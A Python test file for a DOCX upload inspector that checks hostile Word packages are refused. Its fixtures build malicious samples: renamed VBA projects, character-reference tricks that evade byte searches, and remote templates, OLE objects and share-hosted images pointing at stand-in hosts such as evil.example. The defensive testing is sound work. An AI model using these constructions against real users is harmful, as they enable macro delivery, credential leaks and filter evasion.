"""DOCX is judged by its parsed package: relationships and declared content types, not part
names or a byte search (issue 14, finding 2: the same "regex over raw bytes" pattern)."""

from __future__ import annotations

import pytest

from weerstand.information import attachments as files
from weerstand.information.attachments import DOCX, Rejected
from weerstand.information.tests.test_attachments import docx

CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part; each relationship is (type URI, target, target mode or "")."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}">{items}</Relationships>'.encode()


def content_types(*overrides: tuple[str, str]) -> bytes:
    items = "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides)
    return f'<?xml version="1.0"?><Types xmlns="{CT_NS}">{items}</Types>'.encode()


def _code(data: bytes) -> str:
    with pytest.raises(Rejected) as exc:
        files.inspect("verslag.docx", DOCX, data)
    return exc.value.invalid_params[0].code


HOSTILE = {
    # A macro project under an innocent part name: only the relationship says what it is.
    "vba-project-renamed": docx(
        extra={
            "word/_rels/document.xml.rels": rels(
                (
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "media/image1.png",
                    "",
                )
            ),
            "word/media/image1.png": b"\xd0\xcf\x11\xe0 not an image",
        }
    ),
    # The content type spelled with a character reference: no byte search finds "vbaProject".
    "content-type-char-reference": docx(
        content_types=content_types(("/word/x.dat", "application/vnd.ms-office.&#118;baProject"))
    ),
    "macro-enabled-main-char-reference": docx(
        content_types=content_types(
            ("/word/document.xml", "application/vnd.ms-word.document.&#109;acroEnabled.main+xml")
        )
    ),
    "remote-template": docx(
        extra={
            "word/_rels/settings.xml.rels": rels(
                (f"{OFFICE}/attachedTemplate", "https://evil.example/t.dotm", "External")
            )
        }
    ),
    "template-on-a-share": docx(
        extra={
            "word/_rels/settings.xml.rels": rels(
                (f"{OFFICE}/attachedTemplate", "\\\\evil\\share\\t.dotm", "External")
            )
        }
    ),
    "external-image-on-a-share": docx(
        extra={
            "word/_rels/document.xml.rels": rels(
                (f"{OFFICE}/image", "file://evil/share/pixel.png", "External")
            )
        }
    ),
    "remote-ole-object": docx(
        extra={
            "word/_rels/document.xml.rels": rels(
                (f"{OFFICE}/oleObject", "https://evil.example/x.rtf", "External")
            )
        }
    ),
    "alt-chunk": docx(
        extra={
            "word/_rels/document.xml.rels": rels((f"{OFFICE}/aFChunk", "chunk.mht", "")),
            "word/chunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><script>1</script></html>",
        }
    ),
    "embedded-macro-workbook": docx(extra={"word/embeddings/Werkblad.xlsm": b"PK not really"}),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_active_or_fetching_docx_is_refused(case: str) -> None:
    assert _code(HOSTILE[case]) in ("macro", "external")


def test_a_docx_with_links_and_a_local_template_passes() -> None:
    data = docx(
        extra={
            "word/_rels/document.xml.rels": rels(
                (f"{OFFICE}/hyperlink", "https://www.nctv.nl/", "External"),
                (f"{OFFICE}/styles", "styles.xml", ""),
                (f"{OFFICE}/image", "media/image1.png", ""),
            ),
            "word/_rels/settings.xml.rels": rels(
                (f"{OFFICE}/attachedTemplate", "file:///C:/Users/a/Normal.dotm", "External")
            ),
            "_rels/.rels": rels((f"{OFFICE}/officeDocument", "word/document.xml", "")),
        },
        content_types=content_types(
            (
                "/word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            )
        ),
    )
    assert "Verklaring getuige" in files.inspect("ok.docx", DOCX, data).text
